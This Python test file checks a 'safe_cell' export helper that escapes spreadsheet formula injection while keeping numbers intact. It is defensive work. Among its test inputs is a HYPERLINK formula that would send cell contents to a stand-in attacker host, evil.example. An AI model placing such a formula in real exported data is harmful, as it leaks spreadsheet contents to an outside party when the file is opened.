"""safe_cell: no export hands a spreadsheet a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime
import decimal
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from governance.consultation.exports import safe_cell, write_csv


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "=", "-",
])
def test_text_that_starts_like_a_formula_is_escaped(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    "More places to play", "", "'already quoted", " =not first", -3, 2.5, 0,
    decimal.Decimal("-1.5"), None, True, datetime.date(2016, 7, 14),
])
def test_other_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) is value or safe_cell(value) == value


@given(st.text())
def test_no_text_cell_comes_out_starting_like_a_formula(text: str) -> None:
    out = safe_cell(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert out.removeprefix("'") == text or out == text


def test_write_csv_escapes_text_and_keeps_numbers() -> None:
    stream = io.StringIO()
    write_csv(stream, ["answer", "count"], [["=1+1", -3], ["fine", 4.5], [None, 0]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows == [["answer", "count"], ["'=1+1", "-3"], ["fine", "4.5"], ["", "0"]]
